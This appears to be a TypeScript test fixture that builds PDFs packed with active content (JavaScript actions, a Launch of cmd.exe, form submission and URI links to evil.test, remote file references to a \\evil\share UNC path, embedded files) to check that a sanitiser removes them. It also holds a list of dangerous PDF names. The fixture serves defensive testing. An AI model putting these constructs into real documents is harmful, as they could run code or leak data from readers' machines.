import { deflateSync } from 'node:zlib'
import { pdfOfObjects, pdfStream } from '../../pdf-file.fixture.ts'

/** Names that appear in a PDF only if it acts, opens something else, or contains what isn't shown. */
export const activeNames = [
  ...['OpenAction', 'AA', 'JavaScript', 'JS', 'Launch', 'GoToR', 'GoToE', 'Rendition', 'Movie', 'RichMedia', '3D'],
  ...['Sound', 'FileAttachment', 'EmbeddedFiles', 'EF', 'Filespec', 'SubmitForm', 'ImportData', 'URI', 'AF', 'Ref'],
  ...['PieceInfo', 'XFA', 'AcroForm', 'Outlines', 'Annots', 'Metadata', 'Alternates', 'OPI', 'Next', 'UF'],
]

const action = (inside: string) => `<</Type/Action/S/${inside}>>`
const script = action('JavaScript/JS(app.alert\\(1\\))')
const elsewhere = '<</Type/Filespec/F(\\\\\\\\evil\\\\share\\\\x.pdf)/UF(x.pdf)/EF<</F 20 0 R>>>>'
const annotation = (inside: string) => `<</Type/Annot/Rect[10 10 50 50]${inside}>>`

/** The first file's own dangers, the second those that a search for a few names overlooks. */
const dangers = {
  known: [
    annotation(`/Subtype/Link/A${script}/AA<</E${script}>>`),
    annotation(`/Subtype/Link/A${action('Launch/F(cmd.exe)')}`),
    annotation(`/Subtype/RichMedia/RichMediaContent<</Assets<</Names[]>>>>`),
    annotation(`/Subtype/Link/A${action('SubmitForm/F(http://evil.test)')}`),
    annotation(`/Subtype/Link/A${action('ImportData/F(x.fdf)')}`),
  ],
  overlooked: [
    annotation(`/Subtype/Link/A${action(`GoToR/F${elsewhere}/D[0/Fit]`)}`),
    annotation(`/Subtype/Link/A${action(`GoToE/F${elsewhere}/T<</R/C>>`)}`),
    annotation(`/Subtype/Screen/A${action('Rendition/OP 0/JS(app.alert\\(1\\))/R<</S/MR/C<</S/MCD>>>>')}`),
    annotation(`/Subtype/Movie/Movie<</F${elsewhere}>>`),
    annotation('/Subtype/3D/3DD 20 0 R'),
    annotation('/Subtype/Sound/Sound 20 0 R'),
    annotation(`/Subtype/FileAttachment/FS${elsewhere}`),
    annotation(`/Subtype/Link/A${action(`URI/URI(http://evil.test)/Next ${action('Movie/T(x)')}`)}`),
  ],
} as const

/** The objects of a page with a text, a picture, a filled-in field, a hidden note, and everything that must not stay. */
const objectsOf = (annotations: readonly string[], names: string): (Buffer | string)[] => [
  `<</Type/Catalog/Pages 2 0 R/OpenAction${action(`GoToR/F${elsewhere}`)}/AA<</WC 20 0 R>>/AcroForm<</Fields[6 0 R]/XFA 20 0 R>>/Outlines<</Title(x)/A${action('URI/URI(http://evil.test)')}>>/AF[${elsewhere}]/Metadata 20 0 R/PieceInfo<<>>${names}>>`,
  '<</Type/Pages/Kids[3 0 R]/Count 1/MediaBox[0 0 612 792]/Resources 8 0 R>>',
  `<</Type/Page/Parent 2 0 R/Contents 5 0 R/Annots[6 0 R 10 0 R ${annotations.join(' ')}]/AA<</O 20 0 R>>/AF[20 0 R]/PieceInfo<<>>/Metadata 20 0 R>>`,
  '<</Type/Font/Subtype/Type1/BaseFont/Helvetica/AF 20 0 R>>',
  pdfStream(
    deflateSync(Buffer.from('BT /F1 12 Tf 72 720 Td (Sentinel text) Tj ET /Im1 Do /Fm1 Do')),
    '/Filter/FlateDecode',
  ),
  '<</Type/Annot/Subtype/Widget/FT/Tx/T(field)/V(Sentinel field)/Rect[72 600 272 620]/F 4/AP<</N 7 0 R>>>>',
  pdfStream(
    'BT /F1 6 Tf 2 2 Td (Sentinel field) Tj ET',
    '/Subtype/Form/BBox[0 0 100 10]/Resources<</Font<</F1 4 0 R>>>>',
  ),
  '<</Font<</F1 4 0 R>>/XObject<</Im1 9 0 R/Fm1 11 0 R>>>>',
  pdfStream(
    '\u0001',
    '/Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/Alternates[20 0 R]/OPI<<>>/Metadata 20 0 R',
  ),
  '<</Type/Annot/Subtype/FreeText/Rect[72 500 272 520]/F 2/AP<</N 12 0 R>>>>',
  pdfStream('q Q', `/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F${elsewhere}>>/PieceInfo<<>>/AF[20 0 R]`),
  pdfStream(
    'BT /F1 6 Tf 2 2 Td (Sentinel hidden) Tj ET',
    '/Subtype/Form/BBox[0 0 100 10]/Resources<</Font<</F1 4 0 R>>>>',
  ),
  ...Array.from({ length: 7 }, () => 'null'),
  pdfStream('Sentinel attachment'),
]

/** The same objects, those that may be in an object stream in one. */
const packed = (objects: readonly (Buffer | string)[]): Buffer => {
  const inside = objects.flatMap((object, at) => (typeof object === 'string' ? [{ object, number: at + 1 }] : []))
  let offset = 0
  const table = inside.map(({ object, number }) => {
    const entry = `${number} ${offset}`
    offset += object.length + 1
    return entry
  })
  const head = `${table.join(' ')}\n`
  const content = deflateSync(Buffer.from(head + inside.map(({ object }) => object).join('\n')))
  return pdfOfObjects([
    ...objects.map((object) => (typeof object === 'string' ? 'null' : object)),
    pdfStream(content, `/Type/ObjStm/N ${inside.length}/First ${head.length}/Filter/FlateDecode`),
  ])
}

const all = objectsOf(
  [...dangers.known, ...dangers.overlooked],
  `/Names<</JavaScript<</Names[(x)${script}]>>/EmbeddedFiles<</Names[(x)${elsewhere}]>>>>`,
)

/** PDFs of one page with a text and a filled-in field, and all that must not stay of them. */
export const activePdfs: Readonly<Record<'plain' | 'in object streams' | 'without well-known names', Buffer>> = {
  plain: pdfOfObjects(all),
  'in object streams': packed(all),
  'without well-known names': pdfOfObjects(objectsOf(dangers.overlooked, '')),
}

/** The same page without any of it, except the drawing of the field. */
export const quietPdf: Buffer = pdfOfObjects(objectsOf([], ''))
